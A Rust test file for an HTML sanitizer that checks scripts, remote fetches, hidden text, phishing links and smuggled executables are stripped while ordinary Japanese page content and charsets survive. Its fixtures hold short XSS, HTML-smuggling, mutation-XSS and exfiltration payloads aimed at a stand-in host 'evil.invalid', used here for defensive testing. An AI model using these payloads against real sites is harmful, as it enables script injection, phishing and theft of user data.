//! Web pages: what stays, what goes, how they read as text.

use sanitize::{Budget, Ending, Format, Policy, sanitize, verify};

use super::build::png;
use super::nasty::{Case, check, loses, refused, run};

fn page(body: &str) -> Vec<u8> {
    format!("<!DOCTYPE html><html><head><title>案内</title></head><body>{body}<p>本文です。</p></body></html>")
        .into_bytes()
}

/// A page that is rebuilt without these, and of which these texts are gone.
fn without(
    name: &'static str,
    body: &str,
    removed: &'static [&'static str],
    lost: &'static [&'static str],
    gone: &'static [&'static str],
) -> Case {
    loses(name, page(body), removed, lost, gone)
}

fn what_runs() -> Vec<Case> {
    vec![
        without("script.html", "<script>fetch('//evil.invalid')</script>", &["script"], &[], &["script", "evil"]),
        without(
            "smuggling.html",
            "<script>var b=new Blob([atob('TVqQ')]);</script><a download=x.exe href='data:application/octet-stream;base64,TVqQ'>開く</a>",
            &["script", "unsafe_link"],
            &[],
            &["TVqQ", "download"],
        ),
        without(
            "handler.html",
            "<p onclick='x()' OnMouseOver=y()>a</p><img src=x onerror=z()>",
            &["script"],
            &["picture"],
            &["onclick", "onerror", "z()"],
        ),
        without(
            "javascript.html",
            "<a href=' java&#115;cript:x()'>a</a><a href='java\tscript:x()'>b</a><a href=vbscript:x>c</a>",
            &["unsafe_link"],
            &[],
            &["script:"],
        ),
        without(
            "frame.html",
            "<iframe src=https://evil.invalid/ srcdoc='<script>'>x</iframe>",
            &["frame"],
            &[],
            &["evil", "srcdoc"],
        ),
        without(
            "object.html",
            "<object data=https://evil.invalid/x.swf><embed src=x.swf>代わりの文</object>",
            &["rich_media"],
            &[],
            &["evil", "swf"],
        ),
        without(
            "svg.html",
            "<svg onload=x()><title>図</title><style>z{}</style><script>y()</script><text>の<tspan>字</tspan></text><desc>w</desc></svg>",
            &["script"],
            &["picture"],
            &["y()", "onload", "z{}", "<tspan"],
        ),
        without("svg-open.html", "<svg><g><p>続き</p>", &[], &["picture"], &["svg"]),
        without(
            "math.html",
            "<math><mi xlink:href='javascript:x()'>a</mi></math>",
            &["unsafe_link"],
            &[],
            &["javascript"],
        ),
    ]
}

fn what_fetches() -> Vec<Case> {
    vec![
        without(
            "refresh.html",
            "<meta http-equiv=Refresh content='0;url=https://evil.invalid/'>",
            &["action"],
            &[],
            &["evil"],
        ),
        without(
            "base.html",
            "<base href='https://evil.invalid/'><a href='x.html'>a</a>",
            &["unsafe_link"],
            &[],
            &["evil", "x.html"],
        ),
        without(
            "sheet.html",
            "<link rel='StyleSheet' href='https://evil.invalid/a.css'>",
            &["style_import"],
            &[],
            &["evil"],
        ),
        without(
            "import.html",
            "<style>@import 'https://evil.invalid/a.css'; p{color:red}</style>",
            &["style_import"],
            &[],
            &["evil", "@import"],
        ),
        without("preload.html", "<link rel=preload href='https://evil.invalid/a'>", &["external_link"], &[], &["evil"]),
        without(
            "background.html",
            "<table background='https://evil.invalid/a.png'><tr><td style=\"background:url('//evil.invalid/b')\">a</td></tr></table>",
            &["remote_image"],
            &[],
            &["evil"],
        ),
        without(
            "escape.html",
            "<p style='background:u\\72l(//evil.invalid/)'>a</p>",
            &["remote_image"],
            &[],
            &["evil"],
        ),
        without("expression.html", "<p style='width:expression(x())'>a</p>", &["remote_image"], &[], &["expression"]),
        without(
            "remote.html",
            "<img src='https://evil.invalid/a.png' srcset='//evil.invalid/2x' alt='写真'>",
            &["remote_image"],
            &[],
            &["evil", "srcset"],
        ),
    ]
}

fn what_asks_and_hides() -> Vec<Case> {
    vec![
        without("unc.html", "<img src='\\\\evil.invalid\\a.png'>", &["remote_image"], &[], &["evil"]),
        without(
            "pixel.html",
            "<noscript><img src='https://evil.invalid/p' width=1 height=1></noscript>",
            &["tracking_pixel"],
            &[],
            &["evil"],
        ),
        without(
            "form.html",
            "<form action='https://evil.invalid/'>氏名<input name=a value='山田'><input type=hidden value=t0ken><button formaction='//evil.invalid'>送る</button></form>",
            &["form_field", "html_form"],
            &["form_field"],
            &["evil", "t0ken", "<input", "<button"],
        ),
        without("template.html", "<template><p>隠れた文</p></template>", &["hidden_text"], &[], &["隠れた文"]),
        without(
            "hidden.html",
            "<div style='display:none'>見えない一</div><p hidden>見えない二</p><p style='font-size:0'>見えない三</p><span style='color:#fff'>見えない四</span><p style='position:absolute;left:-9999px'>見えない五</p>",
            &["hidden_text"],
            &[],
            &["見えない"],
        ),
        without(
            "hidden-class.html",
            "<style>.x{display:none}#y{visibility:hidden}</style><p class='a x'>見えない六</p><p id=y>見えない七</p>",
            &["hidden_text"],
            &[],
            &["見えない"],
        ),
        without(
            "mismatch.html",
            "<a href='https://evil.invalid/login'>https://www.city.invalid/</a>",
            &["link_mismatch"],
            &[],
            &["href"],
        ),
        without(
            "user.html",
            "<a href='https://www.city.invalid@evil.invalid/'>市のページ</a>",
            &["link_mismatch"],
            &[],
            &["href"],
        ),
    ]
}

fn what_is_told_in_two_ways() -> Vec<Case> {
    vec![
        without(
            "data-svg.html",
            "<img alt='図' src='data:image/svg+xml,<svg onload=x()>'>",
            &[],
            &["picture"],
            &["svg", "onload"],
        ),
        without(
            "data-exe.html",
            "<img src='data:image/png;base64,TVqQAAMAAAAEAAAA//8='>",
            &[],
            &["picture"],
            &["TVqQ"],
        ),
        without(
            "mutation.html",
            "<noscript><p title='</noscript><img src=x onerror=x()>'></noscript><xmp><script>x()</script></xmp>",
            &["script"],
            &["picture"],
            &["<script", "onerror"],
        ),
        without(
            "comment.html",
            "<!--[if mso]><script>x()</script><![endif]--><!--><script>y()</script>-->",
            &["script"],
            &[],
            &["script", "mso"],
        ),
        without("utf7.html", "+ADw-script+AD4-x()+ADw-/script+AD4-", &[], &[], &["<script"]),
        without("deep.html", &("<div><b>".repeat(50_000) + "深い"), &[], &[], &[]),
        without("bdo.html", "<bdo dir=rtl>fdp.exe</bdo>\u{202e}fdp.exe", &[], &[], &["bdo", "\u{202e}"]),
        refused(
            "only-script.html",
            b"<html><script>location='//evil.invalid'</script></html>".to_vec(),
            "nothing_left",
        ),
        refused("only-hidden.html", b"<html><body><p hidden>x</p></body></html>".to_vec(), "nothing_left"),
        refused(
            "application.html",
            b"<html><head><hta:application id=a></head><body>x</body></html>".to_vec(),
            "blocked_type",
        ),
    ]
}

/// All cases of this file.
pub(crate) fn nasty() -> Vec<Case> {
    [what_runs(), what_fetches(), what_asks_and_hides(), what_is_told_in_two_ways()].into_iter().flatten().collect()
}

#[test]
fn nothing_that_runs_fetches_asks_or_hides_passes() {
    for case in nasty() {
        check(&case);
        let Some(rebuilt) = run(case.name, &case.bytes, &[]).outcome.rebuilt().cloned() else { continue };
        let text = String::from_utf8(rebuilt.bytes).unwrap();
        assert!(text.contains("本文です。"), "{}: {text}", case.name);
        for gone in case.gone {
            assert!(!text.contains(gone), "{}: {gone} is still in {text}", case.name);
        }
    }
}

#[test]
fn a_page_stays_as_it_looked() {
    let picture = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, png());
    let body = format!(
        "<style>p.x{{color:#c00;margin:0 1em}}\n@media print{{p{{color:red}}}}</style><h1 id=top>お知らせ</h1><p class=x style='text-align:center;writing-mode:vertical-rl'>本文<br>二行目 &amp; &lt;例&gt; &copy;&nbsp;</p><table border=1><tr><th>項目<th>金額<tr><td rowspan=2>使用料<td align=right>3,000円</table><ul><li>一<li>二</ul><ruby>関守<rt>せきもり</rt></ruby><a href='https://www.city.invalid/'>市</a><a href='#top'>上へ</a><img src='data:image/png;base64,{picture}' alt='図' width=10><pre>\n  そのまま\n</pre>"
    );
    let done = run("a.htm", &page(&body), &[]);
    let rebuilt = done.outcome.rebuilt().unwrap_or_else(|| panic!("{:?} {:?}", done.report, done.violation));
    assert_eq!((done.outcome.ending(), rebuilt.name.as_str()), (Ending::Rebuilt, "a.htm"), "{:?}", done.report);
    let text = String::from_utf8(rebuilt.bytes.clone()).unwrap();
    for kept in [
        "<title>案内</title>\n<style>\np.x{color:#c00;margin:0 1em}\n</style>",
        "<h1 id=\"top\">お知らせ</h1><p class=\"x\" style=\"text-align:center;writing-mode:vertical-rl\">本文<br>二行目 &amp; &lt;例&gt; ©\u{a0}</p>",
        "<table border=\"1\"><tr><th>項目</th><th>金額</th></tr><tr><td rowspan=\"2\">使用料</td><td align=\"right\">3,000円</td></tr></table>",
        "<ul><li>一</li><li>二</li></ul><ruby>関守<rt>せきもり</rt></ruby>",
        "<a href=\"https://www.city.invalid/\">市</a><a href=\"#top\">上へ</a><img src=\"data:image/png;base64,",
        "<pre>\n  そのまま\n</pre>",
    ] {
        assert!(text.contains(kept), "{kept}\n{text}");
    }
}

#[test]
fn formulas_stay_formulas_and_hold_nothing_else() {
    let formula = "<math display=block xmlns='http://www.w3.org/1998/Math/MathML'><semantics><mrow><mi>x</mi><mo stretchy=false>=</mo>\
        <mfrac><mrow><mi>a</mi><mo>+</mo><mn>1</mn></mrow><msup><mi>b</mi><mn>2</mn></msup></mfrac><mspace width=1em /><none/>\
        <maction actiontype=statusline><mtext>円</mtext></maction></mrow><annotation encoding='application/x-tex'>\\frac</annotation></semantics></math>";
    let text = |body: &str| {
        let done = run("a.html", &page(body), &[]);
        let rebuilt = done.outcome.rebuilt().unwrap_or_else(|| panic!("{:?} {:?}", done.report, done.violation));
        String::from_utf8(rebuilt.bytes.clone()).unwrap()
    };
    let kept = "<math display=\"block\"><mrow><mi>x</mi><mo stretchy=\"false\">=</mo><mfrac><mrow><mi>a</mi><mo>+</mo><mn>1</mn></mrow>\
        <msup><mi>b</mi><mn>2</mn></msup></mfrac><mspace></mspace><none></none><mtext>円</mtext></mrow></math>";
    let written = text(formula);
    assert!(written.contains(kept) && !written.contains("frac</a"), "{written}");
    // As in browsers, a paragraph ends a formula, and parts of formulas mean nothing elsewhere.
    let written = text("<math><mi>x<p>続き</p></math><mi>y</mi>");
    assert!(written.contains("<math><mi>x</mi></math><p>続き</p>y"), "{written}");
    // Pictures of vectors are dropped as pictures; their words stay as a description.
    let written = text("<svg><title>図</title><style>z{}</style><g><text>の<tspan>字</tspan></text></g></svg>");
    assert!(written.contains("<body>［画像：図 の字］<p>"), "{written}");
    let policy = Policy::from_toml("[text]\nhtml = \"text\"").unwrap();
    let done = sanitize("a.html", &page(formula), &policy, &[], Budget::default());
    let rebuilt = String::from_utf8(done.outcome.rebuilt().unwrap().bytes.clone()).unwrap();
    assert!(rebuilt.contains("x=(a+1)/(b^2)円"), "{rebuilt}");
}

#[test]
fn a_page_stays_in_its_charset_where_browsers_know_it() {
    let text = "<html><head><meta http-equiv=Content-Type content='text/html; charset=CHARSET'></head><body><p>表ソ能 髙﨑①㈱ &yen;100 &#x9b12;&#x1f600;</p></body></html>";
    for (label, encoding, out) in [
        ("Shift_JIS", encoding_rs::SHIFT_JIS, "Shift_JIS"),
        ("x-sjis", encoding_rs::SHIFT_JIS, "Shift_JIS"),
        ("euc-jp", encoding_rs::EUC_JP, "EUC-JP"),
        ("utf-8", encoding_rs::UTF_8, "UTF-8"),
        ("shift_jis", encoding_rs::UTF_8, "UTF-8"),
        ("iso-2022-jp", encoding_rs::ISO_2022_JP, "UTF-8"),
    ] {
        let source = text.replace("CHARSET", label).replace('髙', if label == "iso-2022-jp" { "高" } else { "髙" });
        let bytes = encoding.encode(&source).0.into_owned();
        let done = run("a.html", &bytes, &[]);
        let rebuilt =
            done.outcome.rebuilt().unwrap_or_else(|| panic!("{label}: {:?} {:?}", done.report, done.violation));
        let head = String::from_utf8_lossy(&rebuilt.bytes).into_owned();
        assert!(head.contains(&format!("<meta charset=\"{out}\">")), "{label}: {head}");
        let read = encoding_rs::Encoding::for_label(out.as_bytes()).unwrap().decode(&rebuilt.bytes).0.into_owned();
        assert!(
            read.contains("表ソ能") && read.contains("﨑①㈱") && (read.contains("¥100") || read.contains("&#165;100")),
            "{label}: {read}"
        );
        let again = run("a.html", &rebuilt.bytes, &[]);
        assert_eq!(again.outcome.rebuilt().unwrap().bytes, rebuilt.bytes, "{label}");
    }
    let utf16: Vec<u8> =
        std::iter::once(0xfeff).chain("<html><body>関守".encode_utf16()).flat_map(u16::to_le_bytes).collect();
    assert!(
        String::from_utf8(run("a.html", &utf16, &[]).outcome.rebuilt().unwrap().bytes.clone())
            .unwrap()
            .contains("関守")
    );
}

#[test]
fn by_policy_a_page_becomes_text() {
    let policy = Policy::from_toml("[text]\nhtml = \"text\"").unwrap();
    let done = sanitize(
        "a.html",
        &page("<h1>表</h1><table><tr><th>項目<th>金額<tr><td>使用料<td>3,000円</table>"),
        &policy,
        &[],
        Budget::default(),
    );
    let rebuilt = done.outcome.rebuilt().unwrap_or_else(|| panic!("{:?} {:?}", done.report, done.violation));
    assert_eq!((rebuilt.format, rebuilt.name.as_str()), (Format::Txt, "a.txt"));
    assert_eq!(
        String::from_utf8(rebuilt.bytes.clone()).unwrap(),
        "\u{feff}案内\r\n\r\n■ 表\r\n\r\n項目   | 金額\r\n-------+--------\r\n使用料 | 3,000円\r\n\r\n本文です。\r\n"
    );
}

#[test]
fn the_verifier_takes_no_page_that_another_hand_could_have_made() {
    let frame = |head: &str, body: &str| {
        format!(
            "<!DOCTYPE html>\n<html>\n<head>\n<meta charset=\"UTF-8\">\n{head}</head>\n<body>{body}</body>\n</html>\n"
        )
    };
    let right = frame(
        "<title>a</title>\n<style>\np{color:red}\n</style>\n",
        "<p style=\"color:rgb(1, 2, 3)\">a &amp; <br><a href=\"https://a.invalid/\">b</a></p>",
    );
    assert_eq!(verify(right.as_bytes(), Format::Html, &Policy::default()), Ok(()));
    for (head, body) in [
        ("", "<script></script>"),
        ("", "<p onclick=\"x\">a</p>"),
        ("", "<p>a"),
        ("", "<p>a</b>"),
        ("", "<br></br>"),
        ("", "<p class=\"a\" class=\"b\">a</p>"),
        ("", "<a href=\"javascript:x()\">a</a>"),
        ("", "<a href=\"x.html\">a</a>"),
        ("", "<a href='https://a.invalid'>a</a>"),
        ("", "<img src=\"https://a.invalid/a.png\" alt=\"\">"),
        ("", "<img src=\"data:image/png;base64,TVqQ\" alt=\"\">"),
        ("", "a & b"),
        ("", "a > b"),
        ("", "a &#60; b"),
        ("", "<!-- a -->"),
        ("", "\u{202e}a"),
        ("", "<p style=\"background-color:url(x)\">a</p>"),
        ("", "<p style=\"color:rgb(0 0 0 / 0)\">a</p>"),
        ("", "<p style=\"font-size:0\">a</p>"),
        ("", "<p style=\"margin:-900px\">a</p>"),
        ("", "<p style=\"display:none\">a</p>"),
        ("<style>\n@import 'x';\n</style>\n", "a"),
        ("<style>\np{color:red}</style><script>\n</style>\n", "a"),
        ("<link rel=\"stylesheet\" href=\"x\">\n", "a"),
    ] {
        let bytes = frame(head, body);
        assert!(verify(bytes.as_bytes(), Format::Html, &Policy::default()).is_err(), "{bytes}");
    }
    assert!(verify((right + "<p>a</p>").as_bytes(), Format::Html, &Policy::default()).is_err());
}
